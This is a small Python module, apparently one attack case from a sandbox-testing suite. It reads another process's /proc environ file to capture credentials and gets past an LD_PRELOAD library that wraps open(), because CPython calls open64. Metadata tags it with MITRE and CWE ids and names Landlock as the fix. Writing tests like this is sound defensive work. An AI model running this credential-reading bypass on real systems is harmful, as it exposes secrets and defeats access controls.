# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past a preloaded library that wraps open(3).
Means: nothing but Python. CPython is built for large files and calls open64(3) everywhere, so that
       a shim over open() has never seen a Python program open anything.
"""

from attack import DONE, attempting, denied, loot


def run(brief):
    attempting()
    try:
        with open(f"/proc/{brief.worker}/environ", "rb") as file:
            loot(file.read())
    except OSError as why:
        return denied("open()", why)
    return DONE


ATTACK = {
    "effect": "a file that a preloaded library should refuse is read",
    "means": "Python's open(): it calls open64(3)",
    "oracle": "secret:environ",
    "quick": True,
    "id": "LPS-01",
    "attack_id": "T1003.007, CWE-184",
    "remedy": "a decision in the kernel, which all names lead to: Landlock",
    "refs": ["ld.so(8), LD_PRELOAD", "lfs(7)"],
    "run": run,
}
